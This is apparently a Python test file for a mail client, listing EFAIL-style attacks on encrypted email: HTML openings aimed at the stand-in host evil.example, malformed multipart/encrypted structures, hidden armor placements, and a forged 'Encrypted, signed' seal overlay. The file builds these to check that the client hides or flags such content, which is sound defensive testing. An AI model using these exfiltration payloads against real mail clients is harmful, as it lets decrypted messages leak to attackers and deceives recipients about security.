"""Encrypted parts put where a reader might open them for somebody else: direct exfiltration,
covert content, decryption oracles (RFC 9787 section 6.2)."""

from __future__ import annotations

from base64 import encodebytes
from collections.abc import Iterator

from mailclient.message.security import SignatureWord, State
from tests.attacks.conftest import ALICE, BOB, Desk
from tests.attacks.table import EVIL, HEAD, Row, attached, html, multipart

OPENINGS = {
    "a picture": '<img src="http://evil.example/',
    "a picture in single quotes": "<img src='http://evil.example/",
    "a style": "<style>body{background:url(http://evil.example/",
    "a link": '<a href="http://evil.example/',
    "a form": '<form action="http://evil.example/"><textarea name="x">',
    "a frame": '<iframe srcdoc="',
    "a base": '<base href="http://evil.example/"><img src="',
    "a refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/',
    "an unfinished comment": "<img src=http://evil.example/ alt='<!--",
    "a hidden block": '<div style="display:none">',
    "a block without size": '<div style="font-size:0;max-height:0;overflow:hidden">',
    "white letters": '<font color="white" size="1">',
    "a plain-text mode": "<plaintext>",
    "a drawing": "<svg><image href='http://evil.example/",
}


def _around(kind: str, opening: str) -> Row:
    return Row(
        f"an encrypted part between HTML parts of multipart/{kind}, behind {opening}",
        lambda desk: desk.letter(
            multipart(kind, html(OPENINGS[opening]), desk.sealed(), html('">'))
        ),
        State.MIXED,
        hides=True,
    )


def _nested(desk: Desk) -> bytes:
    deep = multipart("alternative", EVIL, desk.sealed(), boundary="3")
    return multipart("mixed", EVIL, multipart("related", deep, boundary="2"))


def _armor(desk: Desk, text: bytes = b"the lilac gate\n") -> bytes:
    made = desk.gpg("--armor", "-r", desk.keys[ALICE], "--encrypt", data=text)
    return made.strip().replace(b"\n", b"\r\n")


def _malformed() -> Iterator[Row]:
    changes = {
        "a third part": _with_third,
        "another protocol": lambda one: one.replace(b'"application/pgp-encrypted"', b'"x/y"', 1),
        "no protocol": lambda one: one.replace(b'protocol="application/pgp-encrypted"', b"x=y", 1),
        "no version": lambda one: one.replace(b"Version: 1\r\n", b"\r\n", 1),
        "version two": lambda one: one.replace(b"Version: 1\r\n", b"Version: 2\r\n", 1),
        "a control part of another type": lambda one: one.replace(
            b"Content-Type: application/pgp-encrypted", b"Content-Type: text/plain", 1
        ),
        "its data as HTML": lambda one: one.replace(
            b"Content-Type: application/octet-stream", b"Content-Type: text/html", 1
        ),
    }
    for name, change in changes.items():
        yield Row(
            f"multipart/encrypted with {name}",
            lambda desk, change=change: desk.letter(change(desk.sealed())),  # type: ignore[misc]
            hides=True,
        )


def _with_third(sealed: bytes) -> bytes:
    end = sealed.rindex(b"--=_")
    line = sealed[end : sealed.index(b"--\r\n", end)]
    return sealed[:end] + line + b"\r\n" + EVIL + sealed[end:]


def _backwards(desk: Desk) -> bytes:
    sealed = desk.sealed()
    line = b"--" + sealed[sealed.index(b'boundary="') + 10 :].partition(b'"')[0]
    head, first, second, tail = sealed.split(line)
    return desk.letter(head + line + second + line + first + line + tail)


def _alone(desk: Desk) -> bytes:
    sealed = desk.sealed()
    line = b"--" + sealed[sealed.index(b'boundary="') + 10 :].partition(b'"')[0]
    head, _, second, tail = sealed.split(line)
    return desk.letter(head + line + second + line + tail)


ROWS = (
    *(_around("mixed", opening) for opening in OPENINGS),
    *(
        _around(kind, "a picture")
        for kind in ("alternative", "related", "digest", "report", "parallel", "x-unknown")
    ),
    *_malformed(),
    Row("multipart/encrypted with its parts in the other order", _backwards, hides=True),
    Row("multipart/encrypted with its data alone", _alone, hides=True),
    Row(
        "an encrypted part three multiparts down",
        lambda desk: desk.letter(_nested(desk)),
        State.MIXED,
        hides=True,
    ),
    Row(
        "an encrypted message as an attachment",
        lambda desk: desk.letter(multipart("mixed", EVIL, attached(desk.letter(desk.sealed())))),
        State.MIXED,
        hides=True,
    ),
    Row(
        "an encrypted message that is all of another message",
        lambda desk: desk.letter(attached(desk.letter(desk.sealed()))),
        State.MIXED,
        hides=True,
    ),
    Row(
        "an encrypted message in message/global",
        lambda desk: desk.letter(
            multipart("mixed", attached(desk.letter(desk.sealed()), "message/global"), EVIL)
        ),
        State.MIXED,
        hides=True,
    ),
    Row(
        "an encrypted message in a message that is encoded once more",
        lambda desk: desk.letter(
            multipart(
                "mixed",
                b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                + encodebytes(desk.letter(desk.sealed())),
            )
        ),
        State.MIXED,
        hides=True,
    ),
    Row(
        "an encrypted part below three thousand empty lines",
        lambda desk: desk.letter(
            multipart("mixed", HEAD + b"Hello.\r\n" + b"\r\n" * 3000, desk.sealed())
        ),
        State.MIXED,
        hides=True,
        shows="Hello.",
    ),
    Row(
        "an encrypted part as a file to be saved",
        lambda desk: desk.letter(
            multipart("mixed", EVIL, b"Content-Disposition: attachment\r\n" + desk.sealed())
        ),
        State.MIXED,
        hides=True,
    ),
    Row(
        "an encrypted part that a server has taken apart",
        lambda desk: desk.letter(
            desk.sealed().replace(b"multipart/encrypted", b"multipart/mixed", 1)
        ),
        State.DAMAGED,
        hides=True,
    ),
    Row(
        "armor as a file",
        lambda desk: desk.letter(
            multipart(
                "mixed",
                EVIL,
                b"Content-Type: application/octet-stream\r\n"
                b"Content-Disposition: attachment; filename=x.asc\r\n\r\n" + _armor(desk),
            )
        ),
        hides=True,
    ),
    Row(
        "armor as one part of two",
        lambda desk: desk.letter(multipart("mixed", HEAD + _armor(desk), EVIL)),
        State.MIXED,
        hides=True,
    ),
    Row(
        "armor as the plain side of HTML",
        lambda desk: desk.letter(
            multipart("alternative", HEAD + _armor(desk), html("<p>Hello.</p>"))
        ),
        State.MIXED,
        hides=True,
    ),
    Row(
        "armor in HTML",
        lambda desk: desk.letter(html(f"<pre>{_armor(desk).decode()}</pre>")),
        hides=True,
    ),
    Row(
        "armor below some text",
        lambda desk: desk.letter(HEAD + b"Read this:\r\n" + _armor(desk)),
        hides=True,
    ),
    Row(
        "armor above some text",
        lambda desk: desk.letter(HEAD + _armor(desk) + b"\r\nWhat do you say?\r\n"),
        hides=True,
    ),
    Row(
        "two armors",
        lambda desk: desk.letter(HEAD + _armor(desk) + b"\r\n" + _armor(desk) + b"\r\n"),
        hides=True,
    ),
    Row(
        "armor that is quoted",
        lambda desk: desk.letter(
            HEAD + b"".join(b"> " + one + b"\r\n" for one in _armor(desk).splitlines())
        ),
        hides=True,
    ),
    Row(
        "armor that is the whole text",
        lambda desk: desk.letter(HEAD + _armor(desk)),
        State.ENCRYPTED,
        shows="the lilac gate",
    ),
    Row(
        "an encrypted part that a list has put a footer under",
        lambda desk: desk.letter(
            multipart("mixed", desk.sealed(), HEAD + b"-- \r\nThe list of gates\r\n")
        ),
        State.MIXED,
        hides=True,
        shows="The list of gates",
    ),
    Row(
        "an encrypted part inside a signed one of three parts",
        lambda desk: desk.letter(
            multipart('signed; protocol="application/pgp-signature"', EVIL, desk.sealed(), EVIL)
        ),
        State.MIXED,
        hides=True,
    ),
    Row(
        "an encrypted part beside text inside an honest signature",
        lambda desk: desk.letter(desk.signed(multipart("mixed", EVIL, desk.sealed()))),
        State.SIGNED_VERIFIED,
        SignatureWord.GOOD,
        hides=True,
    ),
    Row(
        "encrypted HTML that loads a picture",
        lambda desk: desk.letter(
            desk.sealed(html('<p>Meet me.</p><img src="http://evil.example/?lilac">'), by=None)
        ),
        State.ENCRYPTED,
        shows="Meet me.",
    ),
    Row(
        "HTML that paints a seal of its own",
        lambda desk: desk.letter(
            html(
                '<div class="seal" style="position:fixed;top:-90px;left:0;z-index:9">'
                f"&#128274; Encrypted, signed by {BOB}.</div>"
            )
        ),
        shows="signed by",
    ),
)
